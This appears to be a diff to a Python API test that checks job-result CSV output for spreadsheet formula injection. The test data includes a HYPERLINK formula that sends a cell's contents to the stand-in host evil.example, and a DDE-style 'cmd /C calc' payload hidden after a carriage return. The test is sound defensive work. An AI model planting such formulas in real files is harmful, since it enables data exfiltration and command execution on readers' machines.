@@ -227,14 +227,19 @@ def test_results_answer_the_type_the_accept_header_prefers(stack: Stack) -> None
 def test_a_results_cell_a_spreadsheet_would_run_is_quoted_as_text(stack: Stack) -> None:
     account = stack.new_account()
     formula = '=HYPERLINK("https://evil.example/?"&A1,"Fix")'
+    # A formula after a lone CR inside a cell: quoted, so no reader starts a row there.
+    hidden = "x\r=cmd|' /C calc'!A0"
     with stack.client(headers=account.headers()) as client:
         template = create_template(client, TEMPLATE_BODY)
-        body = {"type": "import_passes", "template_id": template["id"], "rows": [{formula: "x"}]}
+        rows = [{formula: "x"}, {hidden: "x"}]
+        body = {"type": "import_passes", "template_id": template["id"], "rows": rows}
         job = ok(client.post("/v1/jobs", json=body), 202)
         _finished(client, job["id"])
         results = client.get(f"/v1/jobs/{job['id']}/results", headers={"Accept": "text/csv"})
-    [line] = list(csv.DictReader(io.StringIO(results.text)))
-    assert line["error_param"] == "'" + formula
+    assert results.text.endswith("\r\n")  # RFC 4180
+    first, second = list(csv.DictReader(io.StringIO(results.text, newline="")))
+    assert first["error_param"] == "'" + formula
+    assert second["error_param"] == hidden
 
 
 def test_bad_imports_are_refused_before_any_job_exists(stack: Stack) -> None:
